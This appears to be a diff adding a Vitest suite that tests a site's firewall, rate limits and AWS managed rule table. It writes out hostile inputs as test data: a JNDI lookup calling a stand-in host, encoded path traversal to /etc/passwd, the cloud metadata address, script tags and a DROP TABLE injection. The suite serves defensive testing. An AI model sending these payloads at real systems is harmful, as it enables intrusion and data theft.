@@ -1,0 +1,150 @@
+import { request } from "node:http";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { makeFirewall, type FirewallRequest } from "#infra/local/firewall.ts";
+import { managedRuleGroups } from "#infra/edge/managed-rules.ts";
+import * as api from "#shared/contract/api.ts";
+import { errorBodySchema } from "#shared/contract/error-body.ts";
+import { makeMessage, postMessage } from "#test/support/contact-messages.ts";
+import { startEdition, type RunningEdition } from "#test/support/edition.ts";
+import { waitUntil } from "#test/support/wait-until.ts";
+
+let edition: RunningEdition;
+beforeAll(async () => {
+  edition = await startEdition();
+});
+afterAll(() => edition.stop());
+
+/** Sends the path as it is; `fetch` would tidy it up. */
+const send = (method: string, path: string, headers: Record<string, string> = {}) =>
+  new Promise<{ readonly status: number | undefined; readonly body: string }>((resolve, reject) => {
+    const sent = request({ port: edition.port, method, path, headers }, (response) => {
+      const chunks: Buffer[] = [];
+      response.on("data", (chunk: Buffer) => chunks.push(chunk));
+      response.on("end", () =>
+        resolve({ status: response.statusCode, body: Buffer.concat(chunks).toString() }),
+      );
+    });
+    sent.on("error", reject);
+    sent.end();
+  });
+
+test.each([
+  ["of more than 8 KB", "हमारे सम्मेलन में चार सौ मेहमान आएँगे। ".repeat(100).slice(0, 4000).trim()],
+  ["that quotes a script", 'Your badge page shows <script>alert(1)</script> where "Anna" should stand.'],
+  ["with SQL", "It says: SELECT * FROM guests WHERE 1=1; DROP TABLE guests; -- ' OR 'a'='a"],
+  [
+    "with a path, an address and a lookup",
+    "../../etc/passwd http://169.254.169.254/ ${jndi:ldap://x.example/a}",
+  ],
+])("[CONT-02] an honest message %s arrives as it was written", async (_, message) => {
+  const response = await postMessage(edition.origin, makeMessage({ message }));
+  expect(response.status).toBe(200);
+  const { ref } = (await response.json()) as { ref: string };
+  const mail = await waitUntil("its mail", async () =>
+    (await edition.mail()).find(({ subject }) => subject.includes(ref)),
+  );
+  expect(mail.text).toContain(message);
+});
+
+test.each([
+  ["GET", "/..%2f..%2fetc/passwd", {}],
+  ["GET", "/web-inf/web.xml", {}],
+  ["GET", "/error.log", {}],
+  ["GET", "/%3Cscript%3Ealert(1)%3C/script%3E", {}],
+  ["POST", "/api/contact", { "x-form-signals": "${jndi:ldap://x.example/a}" }],
+  ["GET", `/${"a".repeat(1100)}`, {}],
+] as const)("[OPS-01] %s %.30s with %j is refused in the one error body", async (method, path, headers) => {
+  const { status, body } = await send(method, path, headers);
+  expect([status, errorBodySchema.parse(JSON.parse(body)).code]).toEqual([403, "request-refused"]);
+});
+
+test.each([
+  "/?q=%3Cscript%3E",
+  "/pay-now?customerName=../../&x=169.254.169.254",
+  `/?utm=${"a".repeat(2100)}`,
+])("[OPS-01] a query such as %.40s shows the page", async (path) => {
+  expect((await send("GET", path)).status).toBe(200);
+});
+
+test("[OPS-01] a visitor without a User-Agent, or with a scanner's, sees the pages", async () => {
+  const statuses = [
+    (await send("GET", "/")).status,
+    (await send("GET", "/", { "user-agent": "nmap" })).status,
+  ];
+  expect(statuses).toEqual([200, 200]);
+});
+
+test("[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes", async () => {
+  const post = async (bytes: number, text = "") =>
+    (
+      await fetch(`${edition.origin}${api.receivePaymentNotice.path}`, {
+        method: "POST",
+        headers: { "x-note": "${jndi:ldap://x.example/a}" },
+        body: text + "x".repeat(bytes),
+      })
+    ).status;
+  expect([await post(0, "<script>"), await post(256 * 1024), await post(256 * 1024 + 1)]).toEqual([
+    401, 401, 413,
+  ]);
+});
+
+test("the firewall's rate rule answers 429 in the one error body, to that address alone", async () => {
+  const strict = await startEdition({ rateLimit: 3 });
+  const ask = (path: string, address: string) =>
+    fetch(`${strict.origin}${path}`, { headers: { "CloudFront-Viewer-Address": `${address}:4711` } });
+  const statuses = [];
+  for (let count = 0; count < 4; count += 1) statuses.push((await ask("/api/contact", "192.0.2.1")).status);
+  expect(statuses).toEqual([405, 405, 405, 429]);
+  expect((await ask("/api/contact", "192.0.2.2")).status).toBe(405);
+  const refused = await ask("/api/contact", "192.0.2.1");
+  expect(errorBodySchema.parse(await refused.json()).code).toBe("too-many-requests");
+  await strict.stop();
+});
+
+const plain: FirewallRequest = {
+  address: "192.0.2.1",
+  method: "GET",
+  path: "/",
+  query: "",
+  headers: { "user-agent": "Mozilla/5.0" },
+  body: Buffer.from(""),
+};
+
+test("[OPS-01] each prefix counts for itself, and webhooks may come twenty times as often", () => {
+  const firewall = makeFirewall(2);
+  const count = (path: string) => {
+    let admitted = 0;
+    while (firewall({ ...plain, path }) === undefined) admitted += 1;
+    return admitted;
+  };
+  expect(["/api/x", "/widgets/x", "/webhooks/x"].map(count)).toEqual([2, 2, 40]);
+});
+
+describe("of AWS's rules", () => {
+  const rules = managedRuleGroups.flatMap((group) => group.rules);
+
+  test("[OPS-01] the table has the 22 of the common set and the 12 of known bad inputs", () => {
+    expect(managedRuleGroups.map((group) => [group.name, group.rules.length])).toEqual([
+      ["AWSManagedRulesCommonRuleSet", 22],
+      ["AWSManagedRulesKnownBadInputsRuleSet", 12],
+    ]);
+    expect(new Set(rules.map(({ label }) => label)).size).toBe(34);
+  });
+
+  test.each(rules)(
+    "[OPS-01] $name says in its name what it looks at: $looksAt, $action",
+    ({ name, looksAt }) => {
+      const endings = {
+        path: /_URIPATH$/,
+        query: /_QUERY(STRING|ARGUMENTS)$/,
+        body: /_BODY$/,
+        cookie: /_(COOKIE|Cookie_HEADER)$/,
+        "user agent": /UserAgent.*_HEADER$/,
+        host: /^Host_.*_HEADER$/,
+        method: /_METHOD$/,
+        "any header": /RCE_HEADER$/,
+      };
+      expect(name).toMatch(endings[looksAt]);
+    },
+  );
+});
